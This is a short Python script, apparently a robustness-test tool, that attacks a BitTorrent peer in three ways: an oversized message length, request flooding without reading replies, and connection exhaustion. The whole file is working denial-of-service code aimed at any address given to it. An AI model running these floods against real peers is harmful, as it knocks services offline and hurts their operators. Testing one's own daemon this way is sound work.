"""A client that wants to bring a scripted peer down: runs on a host, ends by itself.

    hostile.py HOW ADDRESS PORT INFO_HASH NUMBER

HOW is length (a message of 2 GiB, of which NUMBER MiB follow), loop (NUMBER requests for one block, and nothing is
read) or crowd (NUMBER connections that say one byte and stay until all are there). Prints what came of it.
"""

from __future__ import annotations

import contextlib
import os
import resource
import socket
import struct
import sys

HELLO = b"\x13BitTorrent protocol" + bytes(8)


def greeted(address: str, port: int, info_hash: str) -> socket.socket:
    sock = socket.create_connection((address, port), timeout=120)
    sock.sendall(HELLO + bytes.fromhex(info_hash) + b"-XX0000-" + os.urandom(6).hex().encode())
    got = b""
    while len(got) < 68:
        more = sock.recv(68 - len(got))
        assert more, "no handshake"
        got += more
    return sock


def length(address: str, port: int, info_hash: str, number: int) -> str:
    sock, sent = greeted(address, port, info_hash), 0
    with contextlib.suppress(OSError):
        sock.sendall(struct.pack(">I", 2**31 - 1) + b"\x07")
        while sent < number:
            sock.sendall(bytes(2**20))
            sent += 1
    return f"{sent} MiB"


def loop(address: str, port: int, info_hash: str, number: int) -> str:
    sock, sent = greeted(address, port, info_hash), 0
    ask = struct.pack(">IBIII", 13, 6, 0, 0, 16384)
    sock.settimeout(20)  # a daemon that stops reading is what it should be
    with contextlib.suppress(OSError):
        sock.sendall(struct.pack(">IB", 1, 2))
        while sent < number:
            sock.sendall(ask * 1000)
            sent += 1000
    return f"{sent} requests"


def crowd(address: str, port: int, _info_hash: str, number: int) -> str:
    socks = []
    for _each in range(number):
        with contextlib.suppress(OSError):
            sock = socket.create_connection((address, port), timeout=30)
            sock.send(b"\x13")
            socks.append(sock)
    return f"{len(socks)} connections"


def main() -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    how, address, port, info_hash, number = sys.argv[1:]
    print({"length": length, "loop": loop, "crowd": crowd}[how](address, int(port), info_hash, int(number)))


if __name__ == "__main__":
    main()
